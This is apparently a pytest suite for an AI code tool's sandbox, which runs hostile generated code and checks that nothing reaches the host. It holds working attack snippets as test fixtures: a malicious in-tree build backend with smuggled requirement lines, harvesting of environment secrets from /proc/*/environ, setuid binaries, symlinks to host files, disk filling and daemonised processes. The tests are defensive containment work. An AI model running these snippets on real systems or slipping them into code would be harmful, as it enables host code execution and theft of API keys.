"""Hostile generated code, tried as an attacker would, on podman and on bubblewrap
(each skipped with the reason where it cannot run). Every test asserts that
nothing happened on the host (a marker file never written, a secret never
readable, a mode bit never kept), not only that the command failed.

The cases that already held (host files, writes outside, host processes,
network, fork bomb, memory, infinite loop, deadline, cancel) are in
test_containment.py; this file holds the ones a security review found open
and the ones around them."""

from __future__ import annotations

import asyncio
import base64
import os
import signal
import stat
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import psutil
import pytest

from deepcode_tui.verify.execution import SandboxSession, VerifyCommand
from deepcode_tui.verify.findings import Kind
from deepcode_tui.verify.sandbox import Limits
from deepcode_tui.verify.sandbox.wheelhouse import prepare_wheelhouse
from deepcode_tui.verify.static import run_static_checks

pytestmark = pytest.mark.sandbox

SMALL = Limits(memory_mb=256, cpus=1, pids=64, file_size_mb=16)
SECRET = "sk-test-" + "Z9" * 16


async def _py(backend, repo: Path, code: str, *, timeout_s: float = 30, limits: Limits = SMALL, mounts=()):
    name = f"hostile_{uuid.uuid4().hex[:8]}.py"
    (repo / name).write_text(textwrap.dedent(code))
    return await backend.run(["python3", name], repo=repo, timeout_s=timeout_s, limits=limits, mounts=mounts)


def _evil_backend_pkg(root: Path, marker: Path) -> Path:
    """A package whose in-tree build backend writes ``marker`` when anything builds it."""
    pkg = root / "evilpkg"
    pkg.mkdir(parents=True)
    (pkg / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "evilpkg"\nversion = "1.0"\n')
    hook = f"open({str(marker)!r}, 'w').write('built on the host')\n"
    (pkg / "backend.py").write_text(
        hook + "def get_requires_for_build_wheel(config_settings=None):\n    return []\n"
        "def prepare_metadata_for_build_wheel(d, config_settings=None):\n    raise SystemExit(1)\n"
        "def build_wheel(d, config_settings=None, metadata_directory=None):\n    raise SystemExit(1)\n"
        "def build_sdist(d, config_settings=None):\n    raise SystemExit(1)\n")
    (pkg / "setup.py").write_text(hook)
    return pkg


# -- 1. host code execution through the install step ---------------------------------------------


async def test_requirement_naming_a_host_path_is_never_built_on_the_host(strong_backend, make_repo, tmp_path):
    """The attack as found: code in the sandbox learns the repo's host path from
    /proc/self/mountinfo, writes a package with an in-tree build backend and a
    requirement line pointing at it; the next install step must not build it."""
    repo = make_repo({})
    marker = tmp_path / "HOST-MARKER"
    attack = f"""
        import os, re
        host = None
        for line in open('/proc/self/mountinfo'):
            f = line.split()
            if f[4] == '/work':
                host = f[3]
        host = host or os.getcwd()
        os.makedirs('evilpkg', exist_ok=True)
        open('evilpkg/pyproject.toml', 'w').write({(_evil_backend_pkg(tmp_path / 'tpl', marker) / 'pyproject.toml').read_text()!r})
        open('evilpkg/backend.py', 'w').write({(tmp_path / 'tpl' / 'evilpkg' / 'backend.py').read_text()!r})
        open('evilpkg/setup.py', 'w').write({(tmp_path / 'tpl' / 'evilpkg' / 'setup.py').read_text()!r})
        open('requirements.txt', 'w').write(
            'evilpkg @ file://' + host + '/evilpkg\\n./evilpkg\\n-e ./evilpkg\\n'
            'evil2 @ git+https://example.invalid/evil.git\\n--index-url http://127.0.0.1:9/simple\\n')
    """
    await _py(strong_backend, repo, attack)
    assert (repo / "requirements.txt").is_file()
    session = SandboxSession(strong_backend, repo, tmp_path / "work", limits=SMALL, wheelhouse_from_installed=True)
    outcome = await session.prepare([VerifyCommand(name="t", argv=["python", "-c", "pass"])])
    assert not marker.exists(), "the repo's build backend ran on the host"
    assert outcome is not None and not outcome.ok
    refused = [f for f in outcome.findings if f.kind == Kind.UNSAFE_REQUIREMENT]
    assert len(refused) == 5 and all(f.file == "requirements.txt" and f.line for f in refused)
    assert {"a local path", "a VCS link", "pip option"} <= {
        w for f in refused for w in ("a local path", "a VCS link", "pip option") if w in f.message}
    assert not list((tmp_path / "work" / "wheelhouse").glob("*.whl")), "something was fetched"


def test_sdist_only_package_is_not_built_by_the_host_wheelhouse(tmp_path):
    """A plain name whose only release is an sdist: pip must not prepare it (that
    runs its build backend); the failure names the package."""
    marker = tmp_path / "HOST-MARKER"
    pkg = _evil_backend_pkg(tmp_path / "src", marker)
    index = tmp_path / "index"
    index.mkdir()
    subprocess.run(["tar", "czf", str(index / "evilpkg-1.0.tar.gz"), "-C", str(pkg.parent), "evilpkg"], check=True)
    os.rename(pkg, tmp_path / "src" / "evilpkg-1.0")
    subprocess.run(["tar", "czf", str(index / "evilpkg-1.0.tar.gz"), "-C", str(tmp_path / "src"), "evilpkg-1.0"],
                   check=True)
    result = prepare_wheelhouse(["evilpkg"], tmp_path / "wh", extra_args=["--no-index", "--find-links", str(index)])
    assert not marker.exists(), "pip prepared the sdist on the host"
    assert not result.ok and "evilpkg" in result.output
    assert not list((tmp_path / "wh").glob("evilpkg*"))


def test_wheelhouse_refuses_urls_paths_and_options_before_pip(tmp_path):
    for line in ["x @ file:///etc", "./pkg", "/abs/pkg", "git+https://h/r.git", "-e .", "--index-url http://x",
                 "pkg\nother"]:
        result = prepare_wheelhouse([line], tmp_path / "wh")
        assert not result.ok and "refused" in result.output, line


# -- 2. the host environment ---------------------------------------------------------------------


async def test_host_environment_is_unreachable_including_proc_environ(strong_backend, make_repo, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET + "A")
    repo = make_repo({})
    # The findings go into a file, which is not scrubbed: this checks the cause, not the scrub.
    await _py(strong_backend, repo, """
        import glob, os, base64
        seen = [repr(dict(os.environ))]
        for p in glob.glob('/proc/*/environ'):
            try:
                seen.append(open(p, 'rb').read().decode('latin-1'))
            except OSError:
                pass
        open('loot.b64', 'w').write(base64.b64encode('\\n'.join(seen).encode()).decode())
    """)
    loot = base64.b64decode((repo / "loot.b64").read_text()).decode()
    assert SECRET not in loot and "OPENAI_API_KEY" not in loot and "ANTHROPIC_API_KEY" not in loot
    assert "'HOME': '/tmp'" in loot  # the allow-listed environment is what the command has


async def test_secrets_are_scrubbed_from_captured_output(strong_backend, make_repo, monkeypatch):
    """Second layer: a secret that reached the command anyway (here passed on purpose)
    never comes back in the output that becomes traces, findings and prompts."""
    monkeypatch.setenv("DEEPCODE_TEST_TOKEN", SECRET)
    repo = make_repo({})
    result = await strong_backend.run(["/bin/sh", "-c", 'echo "key=$LEAK"; echo "$LEAK" >&2; exit 1'],
                                      repo=repo, timeout_s=20, env={"LEAK": SECRET}, limits=SMALL)
    assert SECRET not in result.stdout + result.stderr and "[redacted]" in result.stdout


# -- 3. setuid files, 4. symlinks and special files --------------------------------------------------


async def test_setuid_and_sticky_bits_never_reach_the_host(strong_backend, make_repo):
    repo = make_repo({})
    result = await _py(strong_backend, repo, """
        import os, shutil
        shutil.copy('/bin/sh', 'x')
        os.chmod('x', 0o4755)
        os.mkdir('d')
        os.chmod('d', 0o3777)
        open('d/y', 'w').write('y')
        os.chmod('d/y', 0o2755)
        print(oct(os.stat('x').st_mode))
    """)
    assert "0o104755" in result.stdout, result.stdout + result.stderr  # it really was set inside
    for rel in ("x", "d", "d/y"):
        mode = os.lstat(repo / rel).st_mode
        assert not mode & (stat.S_ISUID | stat.S_ISGID | stat.S_ISVTX), (rel, oct(mode))
    assert any("setuid" in note for note in result.artefacts)


async def test_symlinks_out_of_the_repo_and_fifos_are_gone_before_host_steps(strong_backend, make_repo, tmp_path):
    secret = tmp_path / "host-secret.txt"
    secret.write_text("HOST SECRET\n")
    repo = make_repo({"ok.py": "x = 1\n", "inner/__init__.py": ""})
    result = await _py(strong_backend, repo, f"""
        import os
        os.symlink('/etc', 'etc_link')
        os.symlink({str(secret)!r}, 'stolen.py')
        os.symlink('../..', 'up')
        os.symlink('inner', 'inner_link')   # stays inside: kept
        os.mkfifo('pipe.py')
    """)
    for rel in ("etc_link", "stolen.py", "up", "pipe.py"):
        assert not os.path.lexists(repo / rel), rel
    assert os.path.islink(repo / "inner_link")
    assert len([n for n in result.artefacts if n.startswith("removed")]) == 4
    # The host-side static pass now runs over the tree: it must finish and read nothing outside.
    findings = await asyncio.wait_for(asyncio.to_thread(
        lambda: run_static_checks(repo, expected_files=["ok.py"], declared_packages=[])), timeout=60)
    assert not any("HOST SECRET" in f.message for f in findings)


def test_host_reads_never_follow_links_or_open_fifos(tmp_path):
    """What the host reads back from a writable mount (spectra, mutant results,
    manifests) goes through safe_fs: a planted link or FIFO is refused, not read."""
    from deepcode_tui import safe_fs

    root = tmp_path / "env"
    (root / "sub").mkdir(parents=True)
    secret = tmp_path / "host-secret.json"
    secret.write_text("SECRET")
    os.symlink(secret, root / "sbfl.json")
    os.symlink(tmp_path, root / "dirlink")
    os.mkfifo(root / "mutants.jsonl")
    for rel in ("sbfl.json", "dirlink/host-secret.json", "mutants.jsonl", "../host-secret.json"):
        with pytest.raises(OSError):
            safe_fs.read_text(root, rel)
    (root / "sub" / "ok.txt").write_text("fine")
    assert safe_fs.read_text(root, "sub/ok.txt") == "fine"
    assert [p.name for p in safe_fs.walk_files(root)] == ["ok.txt"]


# -- disk fill -------------------------------------------------------------------------------------


async def test_filling_the_repository_is_stopped_with_a_finding(strong_backend, make_repo):
    repo = make_repo({})
    limits = Limits(memory_mb=256, cpus=1, pids=64, file_size_mb=8, disk_mb=32)
    result = await _py(strong_backend, repo, """
        import os
        block = b'x' * (1 << 20)
        for i in range(4000):
            with open(f'fill_{i}.bin', 'wb') as fh:
                for _ in range(4):
                    fh.write(block)
    """, timeout_s=60, limits=limits)
    assert not result.ok and "disk limit" in (result.killed_reason or "")
    size = sum(p.stat().st_size for p in repo.glob("fill_*.bin"))
    assert size < 2 * 1024**3, f"{size} bytes reached the host before the guard stopped the run"


async def test_filling_tmp_is_bounded_and_stays_inside(strong_backend, make_repo):
    repo = make_repo({})
    result = await _py(strong_backend, repo, """
        import os, errno
        block = b'x' * (1 << 20)
        try:
            for i in range(4000):
                with open(f'/tmp/fill_{i}.bin', 'wb') as fh:
                    for _ in range(4):
                        fh.write(block)
        except OSError as exc:
            print('stopped', errno.errorcode.get(exc.errno))
    """, timeout_s=60)
    assert "stopped" in result.stdout or not result.ok
    assert not list(Path("/tmp").glob("fill_*.bin"))


# -- processes that try to outlive the run; leftovers -------------------------------------------------


async def test_daemonised_process_does_not_survive_the_run(strong_backend, make_repo):
    repo = make_repo({})
    token = f"daemon_{uuid.uuid4().hex[:8]}"
    await _py(strong_backend, repo, f"""
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp('sh', ['sh', '-c', 'sleep 120 # {token}'])
            os._exit(0)
        time.sleep(0.5)
    """)
    for _ in range(50):
        alive = [p for p in psutil.process_iter(["cmdline"]) if token in " ".join(p.info["cmdline"] or [])]
        if not alive:
            break
        await asyncio.sleep(0.1)
    assert not alive, "a daemonised process outlived the sandbox run"


def test_killed_client_leaves_no_container(podman_backend, tmp_path):
    repo = tmp_path / "repo"
    repo.mkdir()
    child = tmp_path / "child.py"
    child.write_text(textwrap.dedent(f"""
        import asyncio
        from pathlib import Path
        from deepcode_tui.verify.sandbox import PodmanBackend
        b = PodmanBackend(rootfs=Path({str(podman_backend.rootfs)!r}), build_rootfs=False)
        asyncio.run(b.run(["sleep", "300"], repo=Path({str(repo)!r}), timeout_s=300))
    """))
    proc = subprocess.Popen([sys.executable, str(child)])
    label = f"label=deepcode-tui.owner={proc.pid}"

    def containers() -> list[str]:
        return subprocess.run(["podman", "ps", "-a", "-q", "--filter", label], capture_output=True,
                              text=True).stdout.split()

    try:
        deadline = time.monotonic() + 60
        while not containers() and time.monotonic() < deadline:
            time.sleep(0.2)
        assert containers(), "the container never started"
        proc.send_signal(signal.SIGKILL)
        proc.wait(10)
        deadline = time.monotonic() + 30
        while containers() and time.monotonic() < deadline:
            time.sleep(0.2)
        assert not containers(), "the killed client's container is still there"
    finally:
        proc.kill()
        for cid in containers():
            subprocess.run(["podman", "rm", "-f", cid], capture_output=True)


async def test_bwrap_leaves_no_cgroup_behind(bwrap_backend, make_repo):
    from deepcode_tui.verify.sandbox import cgroups

    repo = make_repo({})
    await _py(bwrap_backend, repo, "import os\nfor _ in range(20):\n    os.fork() or os._exit(0)\n")
    leftovers = []
    for ctl in ("memory", "pids", "cpu", ""):
        parent = cgroups.ROOT / ctl / cgroups.PARENT if ctl else cgroups.ROOT / cgroups.PARENT
        if parent.is_dir():
            leftovers += [d.name for d in parent.iterdir() if d.is_dir() and d.name.startswith("run-")]
    assert not leftovers, leftovers


# -- what the sandbox can see ------------------------------------------------------------------------


async def test_no_network_interface_but_loopback_and_no_host_processes(strong_backend, make_repo):
    """Network to the outside is checked without sending any traffic: the sandbox
    has no interface but lo, so no route leaves it."""
    repo = make_repo({})
    result = await _py(strong_backend, repo, """
        import os
        print('IF', sorted(os.listdir('/sys/class/net')) if os.path.isdir('/sys/class/net') else
              sorted(l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:]))
        print('PIDS', len([p for p in os.listdir('/proc') if p.isdigit()]))
    """)
    assert "IF ['lo']" in result.stdout, result.stdout + result.stderr
    pids = int(result.stdout.split("PIDS")[1].split()[0])
    assert pids < 10, "the sandbox sees host processes"
    assert str(os.getpid()) not in result.stdout


async def test_a_full_repair_loop_keeps_secrets_out_of_traces_prompts_and_files(
        strong_backend, make_repo, tmp_path, monkeypatch):
    """The case as found: a failing test that prints every environment it can see.
    Neither the iteration's trace, the repairer's prompt nor any file in the run
    directory may hold the key afterwards."""
    from deepcode_tui.verify import LoopConfig, RepairLoop, RepairProposal

    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET + "B")
    repo = make_repo({
        "m.py": "X = 1\n",
        "tests/__init__.py": "",
        "tests/test_m.py": (
            "import glob, os, unittest\n\n"
            "class T(unittest.TestCase):\n"
            "    def test_env(self):\n"
            "        seen = [str(dict(os.environ))]\n"
            "        for p in glob.glob('/proc/*/environ'):\n"
            "            try:\n"
            "                seen.append(open(p, 'rb').read().decode('latin-1'))\n"
            "            except OSError:\n"
            "                pass\n"
            "        self.assertEqual('\\n'.join(seen), '')\n"
        ),
    })
    requests = []

    class Recorder:
        async def propose(self, request):
            requests.append(request)
            return RepairProposal()

    loop = RepairLoop(repo, tmp_path / "run", repairer=Recorder(), backend=strong_backend,
                      expected_files=["m.py"], declared_packages=[],
                      commands=[VerifyCommand(name="unit", argv=["python", "-m", "unittest", "discover", "-s",
                                                                 "tests", "-t", "."], timeout_s=60)],
                      config=LoopConfig(max_iterations=1, limits=SMALL))
    result = await loop.run()
    assert not result.passed and requests, "the failing test never reached the repairer"
    for request in requests:
        assert SECRET not in request.model_dump_json()
    for path in (tmp_path / "run").rglob("*"):
        if path.is_file() and not path.is_symlink():
            assert SECRET.encode() not in path.read_bytes(), path
